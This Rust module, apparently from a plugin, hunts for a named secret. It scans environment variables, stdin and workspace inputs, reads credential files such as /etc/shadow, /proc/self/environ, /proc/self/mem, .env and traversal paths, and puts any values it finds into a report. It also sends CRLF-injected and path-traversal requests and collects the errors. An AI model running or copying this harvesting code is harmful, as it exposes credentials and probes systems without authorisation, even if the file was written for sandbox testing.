//! Every place at which a secret could lie about.

use std::fs;
use std::io::Read;

use http_exchange::{Draft, Url};
use leasehold_plugin::workspace;
use serde_json::{Value, json};

use crate::forms;
use crate::report::{self, Attempt, Failure, Report};

/// Looks for the secret of this name. It works when something lies at one of its places; what errors say is told as well.
pub(crate) fn read(url: &Url, name: &str) -> Attempt {
    let mut found = Vec::new();
    for (place, value) in std::env::vars_os() {
        let place = place.to_string_lossy().into_owned();
        if variables(name).contains(&place) {
            found.push(json!([format!("env {place}"), value.to_string_lossy()]));
        }
    }
    for input in inputs(name) {
        if let Ok(bytes) = workspace::input(&input) {
            found.push(json!([
                format!("input {input}"),
                String::from_utf8_lossy(&bytes)
            ]));
        }
    }
    for path in paths(name) {
        if let Ok(bytes) = fs::read(&path) {
            found.push(json!([
                format!("file {path}"),
                String::from_utf8_lossy(&bytes)
            ]));
        }
    }
    let mut typed = Vec::new();
    if std::io::stdin().read_to_end(&mut typed).is_ok() && !typed.is_empty() {
        found.push(json!(["stdin", String::from_utf8_lossy(&typed)]));
    }
    let said = errors(url);
    match found.is_empty() {
        false => Ok(Report::default().with("found", found).with("said", said)),
        true => Err(Failure::named("not-found").with("said", said)),
    }
}

/// What is said about requests that cannot work, near those that carry the secret.
fn errors(url: &Url) -> Vec<Value> {
    let plain = Draft::new("GET", url);
    let mut tries = vec![plain.clone()];
    for header in ["authorization", "x-api-key", "cookie"] {
        tries.push(plain.clone().with_header(header, b"mine"));
        tries.push(plain.clone().with_header(header, b"mine\r\n"));
    }
    for path in ["/no/such/place", "/../", "/%zz"] {
        tries.push(Draft {
            path: Some(path.to_owned()),
            ..plain.clone()
        });
    }
    tries.push(Draft::new("BREW", url));
    tries
        .iter()
        .map(|draft| report::value(&forms::send(draft)))
        .collect()
}

fn variables(name: &str) -> Vec<String> {
    let upper = name.to_ascii_uppercase().replace('-', "_");
    let prefixed = ["SECRET_", "LEASEHOLD_", "LEASEHOLD_SECRET_"];
    let prefixed = prefixed.iter().map(|prefix| format!("{prefix}{upper}"));
    prefixed.chain([name.to_owned(), upper.clone()]).collect()
}

fn inputs(name: &str) -> Vec<String> {
    let forms = ["", "secret/", "secrets/", "secret:", "secret-", "secret."];
    let named = forms.iter().map(|form| format!("{form}{name}"));
    named
        .chain(["secrets".to_owned(), "secrets.json".to_owned()])
        .collect()
}

fn paths(name: &str) -> Vec<String> {
    let folders = [
        "",
        "/",
        "/tmp/",
        "/workspace/",
        "/run/secrets/",
        "/secrets/",
        "../",
        "../../",
    ];
    let mut paths: Vec<String> = folders
        .iter()
        .map(|folder| format!("{folder}{name}"))
        .collect();
    paths.extend(folders.iter().map(|folder| format!("{folder}secrets.json")));
    paths.extend(
        [
            "/proc/self/environ",
            "/proc/self/mem",
            "/etc/shadow",
            ".git/config",
            ".env",
        ]
        .map(str::to_owned),
    );
    if let Ok(home) = std::env::var("LEASEHOLD_HOME") {
        paths.push(format!("{home}/secrets.json"));
    }
    paths
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_places_are_named_after_the_secret() {
        assert!(variables("api-token").contains(&"LEASEHOLD_SECRET_API_TOKEN".to_owned()));
        assert!(inputs("api-token").contains(&"secret/api-token".to_owned()));
        assert!(paths("api-token").contains(&"/run/secrets/api-token".to_owned()));
    }
}
